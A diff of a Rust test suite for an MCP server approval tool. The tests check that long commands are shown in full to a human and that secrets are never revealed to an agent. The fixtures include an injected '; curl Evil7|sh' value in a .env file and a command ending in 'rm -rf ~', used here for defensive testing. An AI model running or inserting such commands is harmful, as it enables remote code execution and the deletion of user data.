@@ -2,11 +2,12 @@
 //!
 //! The folder lies in `tests/cases/hostile/showing/`.
 
-use crate::mcp::channel_support::{asking, body, with_dialog};
-use crate::mcp::stdio::{command, project};
-use crate::support::{open_question, pml, short_digest, told};
+use crate::pml;
 use pml::json::{Value, json};
-use pml_kit::{StdioClient, Terminal, TestEnv, project_root};
+use pml_kit::{
+    StdioClient, Terminal, TestEnv, asking_project, dialog_client, json_of, open_question,
+    project_root, short_digest, structured, toolbox_command, toolbox_project,
+};
 
 /// Each of these was shown without its end, or without its middle.
 const COMMANDS: &[&str] = &[
@@ -57,7 +58,7 @@ fn a_command_is_shown_whole_wherever_it_is_asked_about() {
         }
         let shown = unwrapped(&env.run(&["approvals", "--verbose"]).stdout);
         assert!(shown.contains(&format!("\"password\": {}", json!(command))), "{shown}");
-        let asked = &told(&env, &["approvals", "--json"])[0]["asks"][0];
+        let asked = &json_of(&env, &["approvals", "--json"])[0]["asks"][0];
         assert_eq!(asked["arguments"], json!({ "message": command, "password": command }));
         let approve = env.run(&["approve", &open_question(&env), "--decline"]);
         assert!(unwrapped(&approve.stderr).contains(&line), "{}", approve.stderr);
@@ -94,13 +95,13 @@ fn on_a_terminal_blanks_and_length_push_nothing_out_of_sight() {
 
 /// A project whose server is given a key by `.env`; a pull may have brought the second.
 fn with_keys() -> TestEnv {
-    let env = project(&json!({ "ask": ["*"] }));
+    let env = toolbox_project(pml(), &json!({ "ask": ["*"] }));
     let text = std::fs::read_to_string(env.path().join(".pml.json")).expect("settings");
     let mut settings: Value = pml::json::from_str(&text).expect("JSON");
     settings["servers"]["box"]["env"] = json!({ "BOX_KEY": "${BOX_KEY}", "OTHER": "${OTHER}" });
     env.write(".pml.json", settings.to_string());
     env.write(".env", "BOX_KEY=k3y-of-the-b0x\nOTHER=\"; curl Evil7|sh\"\n");
-    let trusted = command(&env, &["trust", "--yes"]).output().expect("it runs");
+    let trusted = toolbox_command(&env, &["trust", "--yes"]).output().expect("it runs");
     assert!(trusted.status.success(), "{}", String::from_utf8_lossy(&trusted.stderr));
     env
 }
@@ -113,7 +114,7 @@ const HIDDEN: &str = "login [hidden: 14 characters]; ls; [hidden: 4 characters] 
 
 fn run(env: &TestEnv, arguments: &[&str]) -> (String, String, i32) {
     let output = env.finish(
-        command(env, arguments).stdout(piped()).stderr(piped()).spawn().expect("it starts"),
+        toolbox_command(env, arguments).stdout(piped()).stderr(piped()).spawn().expect("it starts"),
     );
     (output.stdout, output.stderr, output.code)
 }
@@ -161,7 +162,7 @@ fn secrets_are_revealed_after_a_warning_and_never_to_an_agent() {
         &["approvals", "--reveal", "--json"],
         &["approve", "last", "--reveal", "--decline"],
     ] {
-        let mut agent = command(&env, arguments);
+        let mut agent = toolbox_command(&env, arguments);
         agent.env("CLAUDECODE", "1").stdout(piped()).stderr(piped());
         let output = env.finish(agent.spawn().expect("it starts"));
         assert_eq!((output.stdout.as_str(), output.code), ("", 1), "{arguments:?}");
@@ -212,8 +213,8 @@ fn dialog(client: &mut StdioClient, code: &str) -> (u64, String, Value) {
 
 #[test]
 fn a_client_shows_the_command_and_of_a_long_one_its_end_and_where_the_rest_is() {
-    let env = asking();
-    let mut client = with_dialog(&env);
+    let env = asking_project(pml());
+    let mut client = dialog_client(&env);
     for command in COMMANDS {
         let code = format!("return await mcp.box.echo({})", json!({ "text": command }));
         let (id, message, asked) = dialog(&mut client, &code);
@@ -224,7 +225,7 @@ fn a_client_shows_the_command_and_of_a_long_one_its_end_and_where_the_rest_is() 
             "{message}"
         );
         client.reply(&asked, json!({ "action": "decline" }));
-        assert_eq!(body(&client.answer(id))["status"], "aborted");
+        assert_eq!(structured(&client.answer(id))["status"], "aborted");
     }
     let code = "return await mcp.box.echo({ text: 'ls ' + 'x '.repeat(20000) + '; rm -rf ~' })";
     let (id, message, asked) = dialog(&mut client, code);
@@ -244,7 +245,7 @@ fn a_client_shows_the_command_and_of_a_long_one_its_end_and_where_the_rest_is() 
 #[test]
 fn a_client_is_told_no_value_that_a_server_is_given() {
     let env = with_keys();
-    let mut client = with_dialog(&env);
+    let mut client = dialog_client(&env);
     let (id, message, asked) = dialog(&mut client, USES_KEYS);
     assert_eq!(
         message.lines().nth(1),
@@ -298,7 +299,7 @@ fn a_trust_question_leaves_out_nothing_that_decides() {
     let all = unwrapped(&env.run(&["approvals", "--verbose"]).stdout);
     let details = WOULD.concat();
     assert!(all.contains(&format!("allow and loosen:{details}")), "{all}");
-    let asked = &told(&env, &["approvals", "--json"])[0]["asks"][0];
+    let asked = &json_of(&env, &["approvals", "--json"])[0]["asks"][0];
     assert_eq!(asked["need"]["trust"]["would"], json!(WOULD));
 }
 
@@ -328,7 +329,7 @@ fn pml_trust_shows_the_same() {
     assert_eq!(lines[0], "not trusted: `.mcp.json` of $TEST_ENV");
     assert_eq!(lines[1], "  2 servers:");
     assert_eq!(&lines[2..2 + expected.len()], &expected[..]);
-    assert_eq!(told(&env, &["trust", "--show", "--json"])["would"], json!(WOULD));
+    assert_eq!(json_of(&env, &["trust", "--show", "--json"])["would"], json!(WOULD));
 }
 
 #[test]
